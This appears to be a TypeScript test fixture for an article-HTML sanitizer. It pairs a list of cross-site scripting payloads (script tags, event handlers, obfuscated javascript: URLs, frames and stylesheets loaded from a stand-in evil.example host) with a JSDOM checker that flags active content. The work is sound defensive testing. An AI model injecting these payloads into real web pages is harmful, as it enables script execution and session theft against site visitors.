import { JSDOM } from 'jsdom';

/** Hostile HTML a staff account (or a stolen staff session) might store as an article. */
export const xssPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/uploads/articles/0123456789abcdef0123456789abcdef.png" onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/track.png">',
  '<img src="/uploads/../secret.png">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/embed/../../evil"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>body{display:none}</style>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<video><source onerror="alert(1)"></video>',
  '<p onmouseover="alert(1)">hover</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="https://example.org" target="_self" onclick="alert(1)">ok</a>',
  '<p>ok</p><template><script>alert(1)</script></template>',
];

const allowedTags = new Set([
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'P',
  'BR',
  'HR',
  'BLOCKQUOTE',
  'PRE',
  'CODE',
  'UL',
  'OL',
  'LI',
  'STRONG',
  'B',
  'EM',
  'I',
  'U',
  'S',
  'SUB',
  'SUP',
  'MARK',
  'A',
  'IMG',
  'FIGURE',
  'FIGCAPTION',
  'IFRAME',
  'TABLE',
  'THEAD',
  'TBODY',
  'TR',
  'TH',
  'TD',
]);
const safeAttributes = new Set([
  'href',
  'title',
  'rel',
  'target',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'allowfullscreen',
  'colspan',
  'rowspan',
  'start',
]);

/**
 * What is wrong with `html` as a browser would parse it: every element on the allow-list, no event
 * handler or style, links only to http(s)/mailto or same-site paths, images only from /uploads/, frames
 * only YouTube's privacy-enhanced embed. An empty list means the HTML is inert.
 */
export function findActiveContent(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const problems: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    if (!allowedTags.has(element.tagName)) problems.push(`element ${element.tagName}`);
    for (const attribute of element.attributes) {
      if (!safeAttributes.has(attribute.name)) problems.push(`attribute ${attribute.name} on ${element.tagName}`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(?:https?:\/\/|mailto:|\/(?!\/)|#)/i.test(href)) problems.push(`href ${href}`);
    const src = element.getAttribute('src');
    if (element.tagName === 'IMG' && !/^\/uploads\/[a-z]+\/[a-f0-9]{32}\.(?:png|jpg|gif|webp)$/.test(src ?? ''))
      problems.push(`img ${src}`);
    if (
      element.tagName === 'IFRAME' &&
      !/^https:\/\/www\.youtube-nocookie\.com\/embed\/[A-Za-z0-9_-]{11}$/.test(src ?? '')
    ) {
      problems.push(`iframe ${src}`);
    }
  }
  return problems;
}
